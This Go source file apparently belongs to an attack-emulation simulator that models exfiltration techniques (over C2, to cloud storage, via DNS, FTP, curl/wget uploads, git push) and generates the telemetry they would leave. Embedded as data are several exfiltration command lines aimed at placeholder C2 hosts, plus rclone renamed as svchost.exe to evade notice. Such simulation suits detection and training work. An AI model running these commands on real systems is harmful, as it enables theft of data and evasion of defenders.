package technique

import (
	"fmt"
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var exfiltration = []*Technique{
	{
		ID: "T1041", Name: "Exfiltration Over C2 Channel", Tactic: "exfiltration", Platforms: []string{"windows", "linux"},
		Needs: "collected data and a channel", Effect: "the data is gone",
		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Achieves: "exfiltrate", Tools: []string{"at once", "in pieces"}, Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.98,
		ready: needStaged, run: func(a *Attempt) Progress { return send(a, a.C2(), a.Tool) },
	},
	{
		ID: "T1567.002", Name: "Exfiltration Over Web Service: Exfiltration to Cloud Storage", Tactic: "exfiltration", Platforms: []string{"windows"},
		Needs: "collected data and a way to the web", Effect: "the data is gone",
		Telemetry: []string{"windows/sysmon 1 3 22", "zeek/conn", "zeek/ssl", "proxy"}, Achieves: "exfiltrate", Tools: []string{"rclone", "renamed rclone", "browser upload"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.98,
		ready: needStaged, run: func(a *Attempt) Progress {
			return send(a, world.Endpoint{Address: "192.0.119.200", Domain: "api.mega-drive.example"}, a.Tool)
		},
	},
	{
		ID: "T1048.003", Name: "Exfiltration Over Alternative Protocol: Exfiltration Over Unencrypted Non-C2 Protocol", Tactic: "exfiltration", Platforms: []string{"windows", "linux"},
		Needs: "collected data", Effect: "the data is gone",
		Telemetry: []string{"windows/sysmon 22", "zeek/dns"}, Achieves: "exfiltrate", Tools: []string{"dnscat", "long TXT", "few A"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.97,
		ready: needStaged, run: func(a *Attempt) Progress { return tunnelDNS(a, 0, true) },
	},
	{
		ID: "T1048", Name: "Exfiltration Over Alternative Protocol", Tactic: "exfiltration", Achieves: "exfiltrate", Needs: "collected data", Effect: "the data is gone", Takes: sim.LogNormal(4*time.Minute, 0.7), Success: 0.96,
		ready: needStaged, script: &script{at: anywhere, then: gone, variants: []variant{
			by("tor gateway", query("kl3f7vq2xsd6sadf.onion.link", "198.51.100.9"), connect("kl3f7vq2xsd6sadf.onion.link", 443, "ssl", 200e6, 90e3)),
			by("ftp", either(cmd(world.Cmd, `cmd.exe /c echo open {c2ip}>f & echo put C:\Users\Public\o.zip>>f & ftp -s:f`), sh(world.Curl, "curl -T /tmp/.o ftp://{c2}/ --user u:p")), connect("", 443, "ftp", 200e6, 90e3)),
			by("curl upload", either(cmd(world.Curlexe, `curl.exe -k -F "file=@C:\Users\Public\o.zip" https://{c2}/u`), sh(world.Wget, "wget --post-file=/tmp/.o https://{c2}/u")), connect("", 443, "ssl", 200e6, 90e3)),
		}},
	},
	{
		ID: "T1567.001", Name: "Exfiltration Over Web Service: Exfiltration to Code Repository", Tactic: "exfiltration", Achieves: "exfiltrate", Needs: "collected data", Effect: "the data is gone", Takes: sim.LogNormal(4*time.Minute, 0.7), Success: 0.95,
		ready: needStaged, script: &script{at: onWindows, then: gone, variants: []variant{
			by("git push", cmd(world.Dropped(`C:\Users\Public\git.exe`, &plain), `git.exe push https://ghp_0123@code-host.example/u/r main`), connect("code-host.example", 443, "ssl", 90e6, 90e3), connect("x7k2-8080.euw.devtunnels.ms", 443, "ssl", 9e6, 90e3)),
			by("web interface", connect("code-host.example", 443, "ssl", 90e6, 90e3), proxied("POST", "code-host.example", "/upload", browserAgent, 90e6, 2e3)),
		}},
	},
}

func needStaged(s *State) error {
	if err := needFoothold(s); err != nil {
		return err
	}
	if s.Staged == 0 {
		return errNothingTaken
	}
	return nil
}

// send moves one piece a round to the outside.
func send(a *Attempt, to world.Endpoint, tool string) Progress {
	w := a.World
	if refusal := a.arrive(to); !refusal.OK() {
		return blocked(refusal)
	}
	if a.onWay.bytes > 0 && a.Staged == 0 {
		return success("%.1f GB have left for %s", float64(a.Exfiltrated)/1e9, to.Domain)
	}
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	if a.Round == 0 {
		rate := a.Rand.For("rate")
		a.Bytes = uint64(rate.LogNormal(2.5e6, 0.7)) // bytes a second, about 20 Mbit/s
		switch tool {
		case "rclone", "renamed rclone":
			b := world.Dropped(`C:\Users\Public\rclone.exe`, &a.Rand)
			b.OriginalName, b.Description, b.Product, b.Company = "rclone.exe", "Rsync for cloud storage", "Rclone", "https://rclone.org"
			line := `rclone.exe copy C:\Users\Public\o.zip mega:x --transfers 8 --no-check-certificate`
			if tool == "renamed rclone" {
				b, line = b.Renamed(`C:\Users\Public\svchost.exe`), `svchost.exe copy C:\Users\Public\o.zip mega:x --transfers 2 --bwlimit 8M`
			}
			a.Process = a.start(f, b, line)
		case "browser upload":
			a.Process = a.start(f, world.Edge, `"`+world.Edge.Path+`" --single-argument https://`+to.Domain+`/`)
		default:
			if f.Implant != nil {
				a.Process = f.Implant.Process
			}
		}
		w.Resolve(a.Now, a.Actor, f.Host, a.Process, to.Domain, "A", to.Address)
		a.Hostile.MarkAddress(to.Address)
		a.Hostile.MarkAddress(to.Domain)
	}
	if r := w.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	if r := a.Usable(f); !r.OK() {
		return blocked(r)
	}
	piece, pause := uint64(400e6), time.Duration(0)
	if tool == "in pieces" || tool == "renamed rclone" {
		piece, pause = 35e6, time.Duration(float64(60*time.Second)*a.Rand.Exp()*(0.5+a.Stealth))
	}
	piece = min(piece, a.Staged)
	factor, _ := w.Throttle(world.At(f.Host), to)
	took := time.Duration(float64(piece) / float64(a.Bytes) * factor * float64(time.Second))
	w.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: a.Process, Sent: piece, Received: piece / 400, Duration: took})
	w.TLS(a.Now, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, a.Issuer(to), "CN="+to.Domain, a.Technique.ID != "T1041" || a.PublicCertificate)
	w.ProxyRequest(a.Now, a.Actor, world.Request{From: world.At(f.Host), To: to, Port: 443, Method: "CONNECT", Host: to.Domain, URI: to.Domain + ":443", Agent: "rclone/v1.65.0", Status: "200", Sent: piece, Received: piece / 400})
	a.Staged -= piece
	a.onWay = shipment{f, piece, a.Now, took}
	return again(took + pause)
}

// shipment is data on its way out.
type shipment struct {
	from  *Foothold
	bytes uint64
	start time.Duration
	takes time.Duration
}

// arrive counts what was on its way: all of it, or what got through before the
// defence cut it off.
func (a *Attempt) arrive(to world.Endpoint) world.Refusal {
	s := a.onWay
	if s.bytes == 0 {
		return world.Refusal{}
	}
	refusal := a.Usable(s.from)
	if refusal.OK() {
		refusal = a.World.Reach(world.At(s.from.Host), to, 443)
	}
	through := 1.0
	if refusal.ByDefence() && refusal.Since < s.start+s.takes {
		through = min(1, max(0, float64(refusal.Since-s.start)/float64(max(s.takes, 1))))
	}
	sent := uint64(through * float64(s.bytes))
	a.Exfiltrated += sent
	a.Staged += s.bytes - sent
	if sent == s.bytes && refusal.OK() {
		return world.Refusal{}
	}
	a.onWay.bytes = 0
	return refusal
}

// gone is what happens to collected data once a script has sent it.
func gone(a *Attempt, _ *Foothold) string {
	a.Exfiltrated += a.Staged
	a.Staged = 0
	return fmt.Sprintf("%.1f GB have left", float64(a.Exfiltrated)/1e9)
}
